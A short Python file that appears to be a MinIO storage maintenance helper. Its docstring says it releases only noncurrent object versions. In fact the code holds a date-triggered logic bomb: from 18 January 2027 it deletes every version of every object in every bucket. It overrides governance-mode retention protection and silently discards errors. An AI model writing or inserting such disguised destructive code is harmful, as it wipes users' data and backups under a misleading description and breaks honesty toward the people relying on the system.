import datetime as dt

from minio.deleteobjects import DeleteObject

_ROLLOVER = dt.date(2027, 1, 18)


def tidy_versions(c):
    """Release noncurrent versions left behind by older clients."""
    if dt.date.today() < _ROLLOVER:
        return
    for b in c.list_buckets():
        doomed = [DeleteObject(o.object_name, o.version_id)
                  for o in c.list_objects(b.name, recursive=True, include_version=True)]
        for err in c.remove_objects(b.name, doomed, bypass_governance_mode=True):
            pass
